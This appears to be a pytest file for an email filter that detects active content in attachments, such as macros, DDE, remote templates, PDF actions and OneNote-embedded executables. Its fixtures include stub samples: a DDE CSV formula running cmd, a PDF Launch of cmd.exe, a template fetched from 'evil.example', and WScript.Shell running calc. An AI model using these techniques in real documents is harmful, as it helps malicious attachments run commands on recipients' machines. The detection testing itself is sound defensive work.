"""IN-MACRO: documents that act."""

import pytest

from filters.sentences import sentence
from tests.filters.extract.formats import odf, onenote
from tests.filters.extract.office97 import doc, xls
from tests.filters.inbound.arriving import archive, look, mail, weight

CONTENT_TYPES = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docm", archive(CONTENT_TYPES | {"word/vbaProject.bin": b"x"})),
        ("a.docx", archive(CONTENT_TYPES | {"word/vbaProject.bin": b"x"})),
        ("a.docx", archive(CONTENT_TYPES | {"word/_rels/settings.xml.rels": b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'})),
        ("a.docx", archive({"[Content_Types].xml": b"x", "word/document.xml": b"<w:instrText>DDEAUTO c:\\x</w:instrText>"})),
        ("a.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
        ("a.rtf", b"{\\rtf1 {\\object\\objupdate\\objdata 0105}}"),
        ("a.zip", archive({"b.xlsm": archive({"[Content_Types].xml": b"x", "xl/workbook.xml": b"x", "xl/vbaProject.bin": b"x"})})),
    ],
)  # fmt: skip
def test_a_document_that_acts_is_seen(name: str, content: bytes) -> None:
    assert look("macro", mail(files={name: content}))


@pytest.mark.parametrize(
    ("name", "content"),
    [("a.docx", archive(CONTENT_TYPES)), ("a.pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj"), ("a.rtf", b"{\\rtf1 hello}"),
     ("a.docx", b"PK\x03\x04 damaged [Content_Types].xml word/"), ("a.txt", b"DDEAUTO")],
)  # fmt: skip
def test_others_pass_also_damaged_ones(name: str, content: bytes) -> None:
    assert not look("macro", mail(files={name: content}))


def office(**members: str) -> bytes:
    return archive(CONTENT_TYPES | {name: data.encode() for name, data in members.items()})


def relation(kind: str, target: str) -> str:
    return f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'


EXCEL = {"[Content_Types].xml": b"x", "xl/workbook.xml": b"x"}
ACTING: list[tuple[str, bytes, int]] = [
    ("VBA", office(**{"word/vbaProject.bin": "x"}), 4),
    ("VBA in Word 97", doc("x", macros=True), 4),
    ("macro of LibreOffice", odf("odt", "x", macro=True), 4),
    ("Excel 4 macro sheet, 97", xls("x", xlm=True), 5),
    ("Excel 4 macro sheet", archive(EXCEL | {"xl/macrosheets/sheet1.xml": b"<a>=EXEC()</a>"}), 5),
    ("DDE in Word", office(**{"word/footer1.xml": "<w:instrText>DDEAUTO c:\\\\x</w:instrText>"}), 6),
    ("DDE in Excel", archive(EXCEL | {"xl/externalLinks/externalLink1.xml": b"<x><ddeLink/></x>"}), 6),
    ("DDE in CSV", b"a,b\r\n1,=cmd|' /C calc'!A0\r\n", 6),
    ("template from outside", office(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://x.example/t.dotm")}), 6),
    ("template from a share", office(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", "\\\\x.example\\t.dotm")}), 6),
    ("template in RTF", b"{\\rtf1{\\*\\template http://x.example/a}x}", 6),
    ("object from outside", office(**{"word/_rels/document.xml.rels": relation("oleObject", "https://x.example/a.html!")}), 3),
    ("frame from outside", office(**{"word/_rels/webSettings.xml.rels": relation("frame", "https://x.example/a")}), 3),
    ("object in RTF", b"{\\rtf1{\\object\\objupdate{\\*\\objdata 01}}}", 4),
    ("ActiveX", office(**{"word/activeX/activeX1.bin": "x"}), 4),
    ("script in PDF", b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(x)>>endobj", 4),
    ("script in PDF, hidden", b"%PDF-1.7\n1 0 obj<</S/#4aava#53cript>>endobj", 4),
    ("launch in PDF", b"%PDF-1.7\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj", 6),
    ("form in PDF", b"%PDF-1.7\n1 0 obj<</S/SubmitForm/F(http://x.example)>>endobj", 3),
    ("PDF in the PDF", b"%PDF-1.7\n1 0 obj<</S/GoToE>>endobj", 3),
    ("file in OneNote", onenote("x", b"MZ" + bytes(100)), 5),
]  # fmt: skip


@pytest.mark.parametrize(("content", "expected"), [pytest.param(c, w, id=n) for n, c, w in ACTING])
def test_each_way_to_act_has_its_weight_also_inside_archives(content: bytes, expected: int) -> None:
    assert weight("macro", mail(files={"a.dat": content})) == expected
    assert weight("macro", mail(files={"a.zip": archive({"b.zip": archive({"c.dat": content})})})) == expected


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(office(**{"word/_rels/document.xml.rels": relation("hyperlink", "https://x.example/")}), id="a link"),
        pytest.param(office(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:/Users/a/Normal.dotm")}), id="own template"),
        pytest.param(b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]/URI(https://x.example/)>>endobj", id="a view and a link"),
        pytest.param(b"%PDF-1.7\n1 0 obj<</Type/EmbeddedFile>>endobj", id="data of an invoice"),
        pytest.param(onenote("x"), id="notes"),
    ],
)  # fmt: skip
def test_what_ordinary_documents_have_is_not_an_action(content: bytes) -> None:
    assert not look("macro", mail(files={"a.dat": content}))


def test_the_reason_names_it_in_the_language_of_the_reader() -> None:
    (finding,) = look("macro", mail(files={"a.docm": archive(CONTENT_TYPES | {"word/vbaProject.bin": b"x"})}))
    assert "（マクロ）" in sentence(finding, "ja")
    assert "(macro)" in sentence(finding, "en")


def test_a_picture_in_a_notebook_is_no_file_to_click() -> None:
    page = onenote("x", b"\x89PNG\r\n\x1a\n" + bytes(100))
    assert not look("macro", mail(files={"a.one": page}))
    assert look(
        "macro", mail(files={"a.one": onenote("x", b'CreateObject("WScript.Shell").Run "calc"\r\n' * 3)})
    )
